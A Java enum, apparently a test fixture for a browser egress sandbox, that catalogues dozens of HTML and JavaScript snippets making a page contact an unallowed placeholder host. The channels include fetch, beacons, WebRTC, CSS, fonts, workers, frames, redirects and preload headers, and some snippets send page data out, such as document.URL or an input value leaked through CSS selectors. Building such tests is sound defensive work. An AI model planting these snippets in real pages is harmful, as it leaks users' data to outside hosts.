// SPDX-License-Identifier: Apache-2.0
package dev.cadre.examples.browser;

import java.util.Map;

/**
 * A way in which a page can make a browser reach out, as the HTML and the headers of a page that takes it. {@code HOST} stands
 * for a host and port that nobody allowed.
 */
enum WayOut {
    FETCH("<script>fetch('http://HOST/', {mode: 'no-cors'})</script>"),
    FETCH_WITH_BODY("<script>fetch('http://HOST/', {method: 'POST', mode: 'no-cors', body: document.URL})</script>"),
    FETCH_KEPT_ALIVE("<script>fetch('http://HOST/', {keepalive: true, mode: 'no-cors'})</script>"),
    XML_HTTP_REQUEST("<script>const x = new XMLHttpRequest(); x.open('GET', 'http://HOST/'); x.send()</script>"),
    BEACON("<script>navigator.sendBeacon('http://HOST/', 'text')</script>"),
    EVENT_SOURCE("<script>new EventSource('http://HOST/')</script>"),
    WEB_SOCKET("<script>new WebSocket('ws://HOST/')</script>"),
    WEB_SOCKET_SECURE("<script>new WebSocket('wss://HOST/')</script>"),
    WEB_TRANSPORT("<script>new WebTransport('https://HOST/').ready.catch(() => {})</script>"),
    STUN_OVER_UDP(rtc("urls: 'stun:HOST'")),
    TURN_OVER_UDP(rtc("urls: 'turn:HOST?transport=udp', username: 'text of the page', credential: 'x'")),
    TURN_OVER_TCP(rtc("urls: 'turn:HOST?transport=tcp', username: 'text of the page', credential: 'x'")),
    TURN_OVER_TLS(rtc("urls: 'turns:HOST?transport=tcp', username: 'text of the page', credential: 'x'")),
    ICE_OVER_UDP(ice("udp")),
    ICE_OVER_TCP(ice("tcp")),

    IMAGE("<img src=http://HOST/>"),
    IMAGE_SET("<img srcset='http://HOST/ 1x'>"),
    IMAGE_OF_A_PICTURE("<picture><source srcset=http://HOST/><img></picture>"),
    IMAGE_BUTTON("<input type=image src=http://HOST/>"),
    IMAGE_IN_SVG("<svg><image href=http://HOST/ width=9 height=9 /></svg>"),
    FILTER_IN_SVG(
            "<svg><filter id=f><feImage href=http://HOST/ /></filter><rect width=9 height=9 filter=url(#f) /></svg>"),
    BACKGROUND_ATTRIBUTE("<body background=http://HOST/>"),
    IMAGE_UNDER_A_BASE("<base href=http://HOST/><img src=relative>"),
    POSTER("<video poster=http://HOST/ width=9 height=9></video>"),
    VIDEO("<video src=http://HOST/ preload=auto></video>"),
    AUDIO("<audio src=http://HOST/ preload=auto></audio>"),
    SUBTITLES("<video crossorigin src=/video><track default src=http://HOST/></video>"),

    STYLE_SHEET("<link rel=stylesheet href=http://HOST/>"),
    STYLE_IMPORT("<style>@import 'http://HOST/';</style>"),
    STYLE_BACKGROUND("<style>body { background: url(http://HOST/) }</style>"),
    STYLE_CONTENT("<style>body::before { content: url(http://HOST/) }</style>"),
    STYLE_MASK("<style>body { mask-image: url(http://HOST/) }</style>text"),
    STYLE_BY_VALUE("<style>input[value^=s] { background: url(http://HOST/) }</style><input value=secret>"),
    FONT("<style>@font-face { font-family: f; src: url(http://HOST/) } body { font-family: f }</style>text"),
    FONT_FACE("<script>new FontFace('f', 'url(http://HOST/)').load().catch(() => {})</script>"),

    SCRIPT("<script src=http://HOST/></script>"),
    MODULE("<script type=module src=http://HOST/></script>"),
    IMPORT("<script>import('http://HOST/').catch(() => {})</script>"),
    WORKER("<script>new Worker(URL.createObjectURL(new Blob([`fetch('http://HOST/', {mode: 'no-cors'})`])))</script>"),
    WORKER_IMPORT("<script>new Worker(URL.createObjectURL(new Blob([`importScripts('http://HOST/')`])))</script>"),
    SHARED_WORKER(
            "<script>new SharedWorker('data:text/javascript,fetch(\"http://HOST/\", {mode: \"no-cors\"})')</script>"),
    SERVICE_WORKER("<script>navigator.serviceWorker.register('/worker.js?HOST', {scope: '/nowhere'})</script>"),
    PAINT_WORKLET("<script>CSS.paintWorklet.addModule('http://HOST/').catch(() => {})</script>"),
    AUDIO_WORKLET(
            "<script>new OfflineAudioContext(1, 9, 9000).audioWorklet.addModule('http://HOST/').catch(() => {})</script>"),

    FRAME("<iframe src=http://HOST/></iframe>"),
    FRAME_WITH_ITS_OWN_TEXT("<iframe srcdoc='<img src=http://HOST/>'></iframe>"),
    FRAME_OF_DATA("<iframe src='data:text/html,<img src=http://HOST/>'></iframe>"),
    FRAME_OF_A_BLOB(
            "<script>document.write('<iframe src=' + URL.createObjectURL(new Blob(['<img src=http://HOST/>'], {type: 'text/html'})) + '>')</script>"),
    FRAME_IN_A_SANDBOX("<iframe sandbox=allow-scripts srcdoc=\"<script>fetch('http://HOST/')</script>\"></iframe>"),
    OBJECT("<object data=http://HOST/></object>"),
    EMBED("<embed src=http://HOST/>"),

    LOCATION("<script>location = 'http://HOST/'</script>"),
    REFRESH("<meta http-equiv=refresh content='0;url=http://HOST/'>"),
    REFRESH_HEADER("", Map.of("Refresh", "0;url=http://HOST/")),
    LINK("<a href=http://HOST/>there</a><script>document.querySelector('a').click()</script>"),
    DOWNLOAD("<a href=http://HOST/ download>file</a><script>document.querySelector('a').click()</script>"),
    PING("<a href='#here' ping=http://HOST/>here</a><script>document.querySelector('a').click()</script>"),
    FORM("<form action=http://HOST/><input name=a></form><script>document.forms[0].submit()</script>"),
    FORM_POST("<form method=post action=http://HOST/><input name=a></form><script>document.forms[0].submit()</script>"),
    REDIRECT_OF_A_PAGE("<iframe src=/redirect?HOST></iframe>"),
    REDIRECT_OF_A_PART("<img src=/redirect?HOST>"),
    REDIRECT_OF_A_FORM("<form method=post action=/redirect?HOST></form><script>document.forms[0].submit()</script>"),

    PRELOAD("<link rel=preload as=image href=http://HOST/>"),
    PRELOAD_HEADER("text", Map.of("Link", "<http://HOST/>; rel=preload; as=image")),
    MODULE_PRELOAD("<link rel=modulepreload href=http://HOST/>"),
    PREFETCH("<link rel=prefetch href=http://HOST/>"),
    PRECONNECT("<link rel=preconnect href=http://HOST/>"),
    PRECONNECT_HEADER("text", Map.of("Link", "<http://HOST/>; rel=preconnect")),
    POLICY_REPORT("<img src=/blocked>", Map.of("Content-Security-Policy", "img-src 'none'; report-uri http://HOST/")),
    COMPILED_CODE(
            "<script>WebAssembly.compileStreaming(fetch('http://HOST/', {mode: 'cors'})).catch(() => {})</script>"),
    CREDENTIALS_OF_ANOTHER(
            "<script>navigator.credentials.get({identity: {providers: [{configURL: 'http://HOST/', clientId: 'x'}]}}).catch(() => {})</script>"),
    PAYMENT(
            "<script>new PaymentRequest([{supportedMethods: 'https://HOST/'}], {total: {label: 'x', amount: {currency: 'EUR', value: '1'}}}).canMakePayment().catch(() => {})</script>"),

    /** To devices of the local network, which it looks for by multicast. */
    PRESENTATION(
            Place.TOP,
            "<script>new PresentationRequest(['http://HOST/', 'cast:0F5096E8']).getAvailability().catch(() => {})</script>"),

    /** To the local network, which is asked for the name by multicast. */
    ICE_BY_A_LOCAL_NAME(ice("udp").replaceAll("'HOST'", "'text-of-the-page.local:9'")),

    ICON(Place.TOP, "<link rel=icon href=http://HOST/>"),
    TOUCH_ICON(Place.TOP, "<link rel=apple-touch-icon href=http://HOST/>"),
    MANIFEST(Place.TOP, "<link rel=manifest href=http://HOST/>"),
    SEARCH_DESCRIPTION(Place.TOP, "<link rel=search type=application/opensearchdescription+xml href=http://HOST/>"),
    SPECULATIVE_PREFETCH(
            Place.TOP,
            "<script type=speculationrules>{\"prefetch\": [{\"urls\": [\"http://HOST/\"], \"eagerness\": \"immediate\"}]}</script>"),
    SPECULATIVE_PRERENDERING(
            Place.TOP,
            "<script type=speculationrules>{\"prerender\": [{\"urls\": [\"http://HOST/\"], \"eagerness\": \"immediate\"}]}</script>"),
    POP_UP(Place.CLICK, "<button onclick=\"window.open('http://HOST/')\">open</button>"),
    POP_UP_WITHOUT_OPENER(Place.CLICK, "<button onclick=\"window.open('http://HOST/', '', 'noopener')\">open</button>"),
    LINK_IN_A_TAB(Place.CLICK, "<a target=_blank href=http://HOST/>tab</a>"),
    FORM_IN_A_TAB(Place.CLICK, "<form target=_blank action=http://HOST/><button>send</button></form>");

    /** Where a page must take it. */
    enum Place {
        FRAME,
        TOP,
        /** At the top, when somebody clicks. */
        CLICK
    }

    private final Place place;
    private final String html;
    private final Map<String, String> headers;

    WayOut(String html) {
        this(html, Map.of());
    }

    WayOut(String html, Map<String, String> headers) {
        this(Place.FRAME, html, headers);
    }

    WayOut(Place place, String html) {
        this(place, html, Map.of());
    }

    WayOut(Place place, String html, Map<String, String> headers) {
        this.place = place;
        this.html = html;
        this.headers = headers;
    }

    Place place() {
        return place;
    }

    private static String rtc(String server) {
        return """
                <script>const connection = new RTCPeerConnection({iceServers: [{%s}]});
                connection.createDataChannel('x');
                connection.createOffer().then(offer => connection.setLocalDescription(offer))</script>""".formatted(server);
    }

    /** Two ends of a connection, one of which is told that the other is at the host. */
    private static String ice(String transport) {
        return """
                <script>const [here, there] = [new RTCPeerConnection(), new RTCPeerConnection()];
                here.createDataChannel('x');
                const [host, port] = 'HOST'.split(':');
                (async () => {
                  await here.setLocalDescription();
                  await there.setRemoteDescription(here.localDescription);
                  await there.setLocalDescription();
                  await here.setRemoteDescription(there.localDescription);
                  await here.addIceCandidate({candidate: `candidate:1 1 %1$s 2122260223 ${host} ${port} typ host%2$s`, sdpMid: '0'});
                })()</script>""".formatted(transport, transport.equals("tcp") ? " tcptype passive" : "");
    }

    /** The page that takes it. */
    String html(String host) {
        return html.replace("HOST", host);
    }

    /** The headers that the page comes with. */
    Map<String, String> headers(String host) {
        var filled = new java.util.TreeMap<String, String>();
        headers.forEach((name, value) -> filled.put(name, value.replace("HOST", host)));
        return filled;
    }
}
